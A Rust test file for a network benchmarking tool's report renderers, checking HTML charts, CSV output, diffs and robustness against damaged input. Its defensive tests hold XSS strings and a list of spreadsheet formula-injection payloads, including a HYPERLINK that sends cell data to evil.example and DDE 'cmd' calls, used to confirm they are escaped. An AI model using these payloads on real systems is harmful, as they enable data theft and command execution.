//! Snapshot tests of the pure renderers (HTML, CSV, diff) on recorded documents: a loopback
//! test, a `--repeat 5`, a sweep and a latency matrix recorded on a 2-CPU VM, doctor on the
//! Ryzen 9900X fixture (two L3 groups), and a latency matrix and sweep laid over that fixture's
//! topology so the L3 outlines have something to show.

use std::path::PathBuf;

use wirespeed_host::{HostFacts, Root};
use wirespeed_model::Topology;
use wirespeed_report::doc::{Document, Kind};
use wirespeed_report::{csv, diff, html};

fn data(name: &str) -> Document {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name);
    Document::parse(&std::fs::read(&p).unwrap()).unwrap()
}

fn crow_facts() -> HostFacts {
    let root = Root::new(format!(
        "{}/../../tests/fixtures/hosts/crow-9900x-cx5-x4",
        env!("CARGO_MANIFEST_DIR")
    ));
    wirespeed_host::collect(&root)
}

fn topology(f: &HostFacts) -> Topology {
    Topology {
        nodes: f.cpu.numa_nodes.values().cloned().collect(),
        l3_groups: f.cpu.l3_groups.iter().map(|g| g.cpus.clone()).collect(),
        smt_cores: vec![],
    }
}

fn page(docs: &[(&str, &Document)]) -> String {
    let inputs: Vec<html::Input<'_>> = docs
        .iter()
        .map(|(name, doc)| html::Input { name, doc })
        .collect();
    let mut out = Vec::new();
    html::render(&inputs, "wirespeed report", &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// What every page must be: self-contained, nothing fetched, no script.
fn self_contained(h: &str) {
    assert!(h.starts_with("<!DOCTYPE html>"));
    assert!(h.contains(&format!(
        "http-equiv=\"Content-Security-Policy\" content=\"{}\"",
        html::CSP
    )));
    for bad in ["<script", "src=", "href=", "@import", "url(", "<link"] {
        assert!(!h.contains(bad), "page contains {bad}");
    }
}

/// A synthetic latency matrix over the 9900X's twelve CPUs: ~20 ns inside an L3 group, ~80 ns
/// across (the shape of a CCD boundary), with a small per-pair variation.
fn crow_latency(topo: &Topology) -> Document {
    let cpus: Vec<u32> = (0..12).collect();
    let group = |c: u32| topo.l3_groups.iter().position(|g| g.contains(c));
    let mut rows = Vec::new();
    for &a in &cpus {
        let mut row = Vec::new();
        for &b in &cpus {
            if a == b {
                row.push(serde_json::Value::Null);
            } else {
                let base = if group(a) == group(b) { 20.0 } else { 80.0 };
                let ns = base + f64::from((a * 7 + b * 3) % 5);
                row.push(serde_json::json!({"mean_ns": ns, "stderr_ns": 0.5}));
            }
        }
        rows.push(serde_json::Value::Array(row));
    }
    let v = serde_json::json!({
        "cpus": cpus, "samples": 300, "round_trips": 100, "matrix": rows,
        "min": {"a": 1, "b": 0, "mean_ns": 20.0}, "max": {"a": 0, "b": 6, "mean_ns": 84.0},
        "mean_ns": 50.0, "topology": topo,
    });
    Document::from_value(v).unwrap()
}

#[test]
fn loopback_test_page() {
    let doc = data("test.json");
    assert_eq!(doc.kind(), Kind::Test);
    let h = page(&[("test.json", &doc)]);
    self_contained(&h);
    for want in [
        "Throughput per stream and sum",
        "Retransmits per interval",
        "Congestion window",
        "Smoothed RTT",
        "Per-CPU work on the sender",
        "Per-CPU work on the receiver",
        "receiver-cpu-bound",
        // Both ends ran on one VM: its CPUs over time and its topology, drawn once.
        "CPU busy (all but idle) per interval on vm (both ends)",
        "CPU softirq per interval on vm (both ends)",
        "Topology of vm (both ends)",
        "app · CPU 0",
    ] {
        assert!(h.contains(want), "missing {want}");
    }
    assert_eq!(
        h.matches("per interval on").count(),
        4,
        "two heatmaps, each caption twice"
    );
    assert_eq!(h.matches("aria-label=\"topology\"").count(), 1);
    // Three one-second intervals with CPUs (the final sliver without any is not a column).
    assert!(h.contains("<title>CPU 1, 2–3 s: 100 %\nuser "), "{h}");
    assert!(!h.contains("3.01 s"), "{h}");
    insta::assert_snapshot!("test_html", h);
}

/// The loopback test made a two-host one: the peer on the 9900X (two L3 groups) with its NIC
/// on node 0 serving interrupts on CPUs 2 and 7. Each end gets its heatmaps and its topology;
/// the peer's shows the NIC and its interrupt counts on the CPUs that served them.
#[test]
fn two_host_test_page_draws_each_end_with_its_nic() {
    let Document::Test(mut t) = data("test.json") else {
        panic!("a test")
    };
    let crow = topology(&crow_facts());
    let obs = t
        .wirespeed
        .as_mut()
        .and_then(|w| w.observation.as_mut())
        .expect("an observation");
    let remote = obs.remote.as_mut().expect("the peer's end");
    remote.host = Some("crow".into());
    remote.iface = Some("enp1s0f0np0".into());
    remote.nic_numa_node = Some(0);
    remote.nic_irqs = vec![140, 141];
    remote.topology = crow.clone();
    for iv in remote.intervals.iter_mut().chain([&mut remote.total]) {
        for c in &mut iv.cpus {
            c.cpu += 6;
        }
        if let Some(c) = iv.cpus.iter_mut().find(|c| c.cpu == 7) {
            c.nic_irqs = 48_210;
        }
        for w in &mut iv.workers {
            w.cpus_seen = w.cpus_seen.iter().map(|c| c + 6).collect();
        }
    }
    for w in &mut t.wirespeed.as_mut().unwrap().remote_workers {
        w.cpus_seen = w.cpus_seen.iter().map(|c| c + 6).collect();
    }
    let doc = Document::Test(t);
    let h = page(&[("two.json", &doc)]);
    self_contained(&h);
    assert!(
        h.contains("CPU busy (all but idle) per interval on the sender (vm)"),
        "{h}"
    );
    assert!(
        h.contains("CPU busy (all but idle) per interval on the receiver (crow)"),
        "{h}"
    );
    assert_eq!(h.matches("aria-label=\"topology\"").count(), 2);
    assert!(h.contains("Topology of the receiver (crow)"), "{h}");
    assert!(h.contains("NUMA node 0 · CPUs 0-11"), "{h}");
    assert!(h.contains("L3 group 1 · CPUs 6-11"), "{h}");
    assert!(h.contains(">enp1s0f0np0</text>"), "{h}");
    assert!(
        h.contains("48210 interrupts of enp1s0f0np0 served here"),
        "{h}"
    );
    assert!(h.contains(">48k</text>"), "the badge: {h}");
    assert!(h.contains("app+irq · CPU 7"), "{h}");
    assert!(h.contains("thick line: NUMA node boundary"), "{h}");
}

#[test]
fn repeat_page_shows_every_run_and_the_modes() {
    let doc = data("repeat.json");
    assert_eq!(doc.kind(), Kind::Repeat);
    let h = page(&[("repeat.json", &doc)]);
    self_contained(&h);
    assert_eq!(h.matches("<title>run ").count(), 5);
    assert!(h.contains("Modes and what their runs share"));
    insta::assert_snapshot!("repeat_html", h);
}

#[test]
fn sweep_page_marks_best_and_worst() {
    let doc = data("sweep.json");
    let h = page(&[("sweep.json", &doc)]);
    self_contained(&h);
    assert!(h.contains("<rect class=\"best\""));
    assert!(h.contains("<rect class=\"worst\""));
    assert!(h.contains("20.97"));
    insta::assert_snapshot!("sweep_html", h);
}

#[test]
fn latency_on_the_vm_has_one_l3_group() {
    let mut doc = data("latency.json");
    doc.set_topology_if_missing(&Topology {
        nodes: vec![wirespeed_model::CpuSet::from_cpus([0, 1])],
        l3_groups: vec![wirespeed_model::CpuSet::from_cpus([0, 1])],
        smt_cores: vec![],
    });
    let h = page(&[("latency.json", &doc)]);
    self_contained(&h);
    assert_eq!(h.matches("<rect class=\"l3\"").count(), 1);
    insta::assert_snapshot!("latency_vm_html", h);
}

#[test]
fn latency_over_the_9900x_outlines_both_ccds() {
    let topo = topology(&crow_facts());
    assert_eq!(topo.l3_groups.len(), 2, "the fixture has two CCDs");
    let doc = crow_latency(&topo);
    let h = page(&[("latency-9900x.json", &doc)]);
    self_contained(&h);
    // Two diagonal blocks, one per CCD, and a boundary line each way between them.
    assert_eq!(h.matches("<rect class=\"l3\"").count(), 2);
    assert!(h.contains("<title>L3 group 0 (0-5)</title>"));
    assert!(h.contains("<title>L3 group 1 (6-11)</title>"));
    assert_eq!(h.matches("<line class=\"l3\"").count(), 2);
    insta::assert_snapshot!("latency_9900x_html", h);
}

#[test]
fn sweep_over_the_9900x_outlines_both_ccds() {
    let topo = topology(&crow_facts());
    let cpus = [0u32, 1, 6, 7];
    let cells: Vec<Vec<serde_json::Value>> = cpus
        .iter()
        .map(|&r| {
            cpus.iter()
                .map(|&c| {
                    let same = (r < 6) == (c < 6);
                    let bps = if same { 40e9 } else { 28e9 } + f64::from(r + c) * 1e8;
                    serde_json::json!({"runs": [bps], "median": bps})
                })
                .collect()
        })
        .collect();
    let v = serde_json::json!({
        "matrix": {"axes": "client-server", "rows": cpus, "cols": cpus, "cells": cells},
        "summary": {"best": {"row": 7, "col": 7, "median": 41.4e9},
                    "worst": {"row": 0, "col": 6, "median": 28.6e9},
                    "near_best": [],
                    "recommendation": "synthetic"},
        "topology": topo,
    });
    let doc = Document::from_value(v).unwrap();
    let h = page(&[("sweep-9900x.json", &doc)]);
    self_contained(&h);
    assert_eq!(h.matches("<rect class=\"l3\"").count(), 2);
    insta::assert_snapshot!("sweep_9900x_html", h);
}

#[test]
fn doctor_page_draws_the_9900x() {
    let facts = crow_facts();
    let opts = wirespeed_doctor::Options {
        app_cpus: Some(wirespeed_model::CpuSet::from_cpus([6, 7])),
        ..Default::default()
    };
    let findings = {
        let mut f = wirespeed_doctor::diagnose(&facts, &opts).unwrap();
        wirespeed_doctor::sort_findings(&mut f);
        f
    };
    let host = wirespeed_doctor::report::HostInfo {
        hostname: facts.hostname.clone(),
        kernel: facts.kernel.clone(),
        source: "root".into(),
        path: Some("crow-9900x-cx5-x4".into()),
    };
    let report =
        wirespeed_doctor::report::Report::new("wirespeed test", host, &opts, findings, facts);
    let doc = Document::from_value(serde_json::to_value(&report).unwrap()).unwrap();
    assert_eq!(doc.kind(), Kind::Doctor);
    let h = page(&[("doctor.json", &doc)]);
    self_contained(&h);
    assert!(h.contains("NUMA node 0"));
    assert!(h.contains("L3 group 0 · CPUs 0-5"));
    assert!(h.contains("L3 group 1 · CPUs 6-11"));
    assert!(h.contains("enp1s0f0np0"));
    assert_eq!(h.matches("class=\"cpu app\"").count(), 2);
    // Worst first: the first finding box is a critical one.
    let first = h.find("<div class=\"finding ").unwrap();
    assert!(h[first..].starts_with("<div class=\"finding critical\""));
    insta::assert_snapshot!("doctor_9900x_html", h);
}

/// Every string of a doctor document comes from a host or a snapshot file: markup in any of
/// them (here every NIC's PCIe speed, every string the attack used) is text on the page.
#[test]
fn doctor_page_escapes_strings_from_the_host() {
    let mut facts = crow_facts();
    let evil = "<script>alert(1)</script><img onerror=alert(1)>\
                <meta http-equiv=\"refresh\" content=\"0\"><form action=x>";
    for n in &mut facts.nics {
        if let Some(p) = n.pcie.as_mut() {
            p.function.current_speed = Some(evil.into());
        }
    }
    assert!(facts.nics.iter().any(|n| n.pcie.is_some()));
    let opts = wirespeed_doctor::Options::default();
    let findings = wirespeed_doctor::diagnose(&facts, &opts).unwrap();
    let host = wirespeed_doctor::report::HostInfo {
        hostname: facts.hostname.clone(),
        kernel: facts.kernel.clone(),
        source: "snapshot".into(),
        path: None,
    };
    let report =
        wirespeed_doctor::report::Report::new("wirespeed test", host, &opts, findings, facts);
    let doc = Document::from_value(serde_json::to_value(&report).unwrap()).unwrap();
    let h = page(&[("doctor.json", &doc)]);
    self_contained(&h);
    for raw in ["<script", "<img", "<meta http-equiv=\"refresh", "<form"] {
        assert!(!h.contains(raw), "{raw} reached the page raw");
    }
    assert!(h.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[test]
fn two_documents_make_a_comparison() {
    let a = data("test.json");
    let b = data("repeat.json");
    let Document::Repeat(r) = &b else { panic!() };
    let b = Document::Test(Box::new(r.runs[0].clone()));
    let h = page(&[("before.json", &a), ("after.json", &b)]);
    self_contained(&h);
    assert!(h.contains("Compared with the first document"));
    assert!(h.contains("before.json → after.json"));
    assert!(h.contains("<td>throughput</td>"));
}

#[test]
fn csv_snapshots() {
    for (name, file) in [
        ("test_csv", "test.json"),
        ("repeat_csv", "repeat.json"),
        ("sweep_csv", "sweep.json"),
    ] {
        let mut out = Vec::new();
        csv::render(&data(file), &mut out).unwrap();
        let s = String::from_utf8(out).unwrap();
        let header = s.lines().next().unwrap();
        assert!(header.contains("bits_per_second"), "{header}");
        insta::assert_snapshot!(name, s);
    }
    // a latency matrix has its CSV here too (one row per pair: `tests/report/kinds.rs`)
    let mut out = Vec::new();
    csv::render(&data("latency.json"), &mut out).unwrap();
    let s = String::from_utf8(out).unwrap();
    assert!(
        s.starts_with("cpu_a,cpu_b,mean_ns,stderr_ns,samples,round_trips,noisy\n"),
        "{s}"
    );
}

#[test]
fn test_csv_has_one_row_per_interval_and_stream() {
    let doc = data("test.json");
    let Document::Test(t) = &doc else { panic!() };
    let mut out = Vec::new();
    csv::render(&doc, &mut out).unwrap();
    let rows = String::from_utf8(out).unwrap().lines().count() - 1;
    let want: usize = t.intervals.iter().map(|i| i.streams.len() + 1).sum();
    assert_eq!(rows, want);
}

#[test]
fn diff_of_two_repeat_runs() {
    let Document::Repeat(r) = data("repeat.json") else {
        panic!()
    };
    let a = Document::Test(Box::new(r.runs[0].clone()));
    let b = Document::Test(Box::new(r.runs[2].clone()));
    let d = diff::diff(&a, &b);
    let mut out = Vec::new();
    d.render_text(&mut out).unwrap();
    insta::assert_snapshot!("diff_runs", String::from_utf8(out).unwrap());
}

/// Hostile documents: every recorded document cut short at many points and with bytes
/// changed never panics in parsing or in any renderer.
#[test]
fn damaged_documents_never_panic() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data");
    let mut parsed = 0;
    for name in ["test.json", "repeat.json", "sweep.json", "latency.json"] {
        let bytes = std::fs::read(dir.join(name)).unwrap();
        let step = (bytes.len() / 97).max(1);
        for i in (0..bytes.len()).step_by(step) {
            let mut variants = vec![bytes[..i].to_vec()];
            for b in [b'9', b'-', b'"', b'e', b'0', b'{'] {
                let mut v = bytes.clone();
                v[i] = b;
                variants.push(v);
            }
            for v in variants {
                let Ok(doc) = Document::parse(&v) else {
                    continue;
                };
                parsed += 1;
                let _ = page(&[("x", &doc)]);
                let _ = csv::render(&doc, &mut Vec::new());
                let _ = diff::diff(&doc, &doc);
            }
        }
    }
    assert!(
        parsed > 100,
        "the mutations should leave many documents readable: {parsed}"
    );
}

#[test]
fn extreme_values_render() {
    let doc = |row: u32| {
        serde_json::json!({
            "kind": "sweep",
            "matrix": {"axes": "app-irq", "rows": [0, row], "cols": [1],
                       "cells": [[{"runs": [1e308], "median": 1e308}], [{"runs": [-1e308], "median": -1e308}]]},
            "summary": {"best": {"row": 0, "col": 1, "median": 1e308},
                        "worst": {"row": row, "col": 1, "median": -1e308},
                        "near_best": [], "recommendation": ""},
        })
    };
    // a CPU number no host has is refused in one line, not drawn
    let e = Document::from_value(doc(u32::MAX)).unwrap_err();
    assert!(e.to_string().contains("4294967295"), "{e}");
    let doc = Document::from_value(doc(65535)).unwrap();
    let h = page(&[("<script>alert(1)</script>", &doc)]);
    self_contained(&h);
    assert!(h.contains("&lt;script&gt;"));
    assert!(h.contains("app CPU"));
}

/// What a peer or a file may plant in a text field to have a spreadsheet run it (issue 37's
/// list, OWASP's first characters of a formula).
const PLANTED: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "\t=1",
    "\r=1",
    "=1+2\";=1+2",
    "-1",
    "=cmd|' /C notepad'!'A1'",
];

/// Every string of `v` replaced by a planted formula where the document still parses with it:
/// by construction, every text field a file controls (the parse decides which are free text).
fn plant_everywhere(doc: &mut serde_json::Value) -> usize {
    fn strings(v: &serde_json::Value, at: &mut Vec<String>, out: &mut Vec<String>) {
        match v {
            serde_json::Value::String(_) => out.push(format!("/{}", at.join("/"))),
            serde_json::Value::Array(a) => {
                for (i, x) in a.iter().enumerate() {
                    at.push(i.to_string());
                    strings(x, at, out);
                    at.pop();
                }
            }
            serde_json::Value::Object(o) => {
                for (k, x) in o {
                    at.push(k.replace('~', "~0").replace('/', "~1"));
                    strings(x, at, out);
                    at.pop();
                }
            }
            _ => {}
        }
    }
    let mut paths = Vec::new();
    strings(doc, &mut Vec::new(), &mut paths);
    let mut planted = 0;
    for (i, p) in paths.iter().enumerate() {
        let was = doc.pointer(p).cloned().unwrap();
        *doc.pointer_mut(p).unwrap() = PLANTED[i % PLANTED.len()].into();
        if Document::parse(doc.to_string().as_bytes()).is_ok() {
            planted += 1;
        } else {
            *doc.pointer_mut(p).unwrap() = was;
        }
    }
    planted
}

/// Every cell of `text`, read as a spreadsheet's CSV import reads it: none starts a formula
/// unless it is a number (a negative one), and a neutralised cell starts with `'`.
fn no_cell_runs(text: &str) -> Vec<Vec<String>> {
    let mut r = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect();
    for row in &rows {
        for cell in row {
            if cell.starts_with(csv::FORMULA_STARTS) {
                assert!(
                    cell.starts_with('-') && cell.parse::<f64>().is_ok(),
                    "a cell a spreadsheet runs: {cell:?} in {text}"
                );
            }
        }
    }
    rows
}

#[test]
fn no_csv_cell_is_a_formula() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data");
    let mut errors_seen = 0;
    for name in ["test.json", "repeat.json", "sweep.json"] {
        let mut v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(dir.join(name)).unwrap()).unwrap();
        if name == "sweep.json" {
            // every cell failed, with a planted error, and one negative throughput kept
            let cells = v["matrix"]["cells"].as_array_mut().unwrap();
            let mut k = 0;
            for row in cells.iter_mut() {
                for cell in row.as_array_mut().unwrap() {
                    cell["error"] = "x".into();
                    if k == 0 {
                        cell["runs"] = serde_json::json!([-5.5]);
                        cell["median"] = serde_json::json!(-5.5);
                    }
                    k += 1;
                }
            }
        }
        let planted = plant_everywhere(&mut v);
        assert!(planted > 0, "{name}: nothing planted");
        let doc = Document::parse(v.to_string().as_bytes()).unwrap();
        let mut out = Vec::new();
        csv::render(&doc, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let rows = no_cell_runs(&text);
        if name == "sweep.json" {
            let error = rows[0].iter().position(|h| h == "error").unwrap();
            for row in &rows[1..] {
                let cell = &row[error];
                let original = cell.strip_prefix('\'').unwrap_or(cell);
                assert!(PLANTED.contains(&original), "{cell:?}");
                assert_eq!(cell, &format!("'{original}"), "neutralised: {text}");
                errors_seen += 1;
            }
            // a negative number stays a number: bare in the file
            assert!(text.contains(",-5.5,1,-5.5,"), "{text}");
        }
    }
    assert_eq!(errors_seen, 4);
}

/// The header and the test's facts say what was run: the end, its target and port, the command
/// line, the time, both versions and the system, as the document carries them.
#[test]
fn the_test_page_says_what_was_run() {
    let Document::Test(mut t) = data("test.json") else {
        panic!("a test")
    };
    let w = t.wirespeed.get_or_insert_with(Default::default);
    w.command = [
        "wirespeed",
        "-c",
        "10.9.0.2",
        "-p",
        "5301",
        "-t",
        "3",
        "-T",
        "a b",
    ]
    .map(String::from)
    .to_vec();
    w.peer = Some(wirespeed_report::Peer {
        is_wirespeed: true,
        version: Some("0.1.0-peer".into()),
    });
    let st = &t.start;
    let (host, port) = {
        let c = st.connecting_to.as_ref().expect("a client's document");
        (c.host.clone(), c.port)
    };
    let time = st.timestamp.as_ref().unwrap().time.clone();
    let version = st.version.clone();
    let h = page(&[("client", &Document::Test(t))]);
    let header = &h[h.find("<header>").unwrap()..h.find("</header>").unwrap()];
    for want in [
        format!("client (test): client of {host} port {port}"),
        time.clone(),
        version.clone(),
        "peer 0.1.0-peer".into(),
        "<code>wirespeed -c 10.9.0.2 -p 5301 -t 3 -T &#39;a b&#39;</code>".into(),
    ] {
        assert!(header.contains(&want), "header lacks {want}: {header}");
    }
    let facts = &h[h
        .find("<div class=\"facts run\">")
        .expect("the run's facts")..];
    let facts = &facts[..facts.find("</div>\n").unwrap()];
    for want in [
        format!("<span>target</span>{host}</div>"),
        format!("<span>port</span>{port}</div>"),
        format!("<span>time</span>{time}</div>"),
        format!("<span>version</span>{version}</div>"),
        "<span>peer version</span>0.1.0-peer</div>".into(),
        "<span>command</span><code>wirespeed -c".into(),
        "<span>test</span>".into(),
    ] {
        assert!(facts.contains(&want), "facts lack {want}: {facts}");
    }
}

/// The captions of the charts of each document's section, in order.
fn chart_captions(h: &str) -> Vec<Vec<String>> {
    h.split("<section class=\"doc\"")
        .skip(1)
        .map(|sec| {
            sec.split("<figcaption>")
                .skip(1)
                .map(|f| f[..f.find("</figcaption>").unwrap()].to_string())
                .collect()
        })
        .collect()
}

/// A forward test and a `-R` one side by side: the reverse one's client received, so it has
/// no retransmit, cwnd or RTT charts; their places are kept, so every chart sits level with
/// its neighbour (the same captions in the same order), and the placeholder says why.
#[test]
fn a_forward_and_a_reverse_test_keep_their_columns_aligned() {
    let fwd = data("tcp.json");
    let rev = data("tcp_rev.json");
    let h = page(&[("forward", &fwd), ("reverse", &rev)]);
    self_contained(&h);
    let caps = chart_captions(&h);
    assert_eq!(caps.len(), 2);
    assert_eq!(caps[0], caps[1], "{caps:?}");
    assert!(
        caps[0].iter().any(|c| c.starts_with("Retransmits")),
        "{caps:?}"
    );
    assert_eq!(h.matches("class=\"placeholder\"").count(), 3, "{h}");
    assert!(h.contains("not in this document: this end received (-R)"));
    // one document alone draws no placeholders
    assert!(!page(&[("reverse", &rev)]).contains("placeholder"));
}

/// A sweep whose cells carry their intervals and verdicts: each cell's hover text gives its
/// spread and verdict, and the colour scale reaches down to half the best cell (its legend's
/// low end), so cells a few percent apart are not drawn darkest against brightest.
#[test]
fn sweep_cells_show_their_spread_and_the_scale_its_span() {
    let Document::Sweep(mut s) = data("sweep.json") else {
        panic!("a sweep")
    };
    let (mut best, mut worst) = (0.0_f64, f64::INFINITY);
    for cell in s.matrix.cells.iter_mut().flatten() {
        if let Some(m) = cell.median {
            best = best.max(m);
            worst = worst.min(m);
            cell.intervals = vec![vec![m * 0.99, m, m * 1.01, m]];
            cell.verdicts = vec![wirespeed_model::VerdictId::PathLimited];
        }
    }
    let h = page(&[("sweep.json", &Document::Sweep(s))]);
    self_contained(&h);
    assert!(
        h.contains("(standard deviation of 4 per-interval rates)"),
        "{h}"
    );
    assert!(h.contains("verdict: path-limited"), "{h}");
    assert!(h.contains("colours from 50 % of the best up"), "{h}");
    let low = wirespeed_model::units::rate(worst.min(best / 2.0));
    assert!(
        h.contains(&format!(">{low}</text>")),
        "legend from {low}: {h}"
    );
}
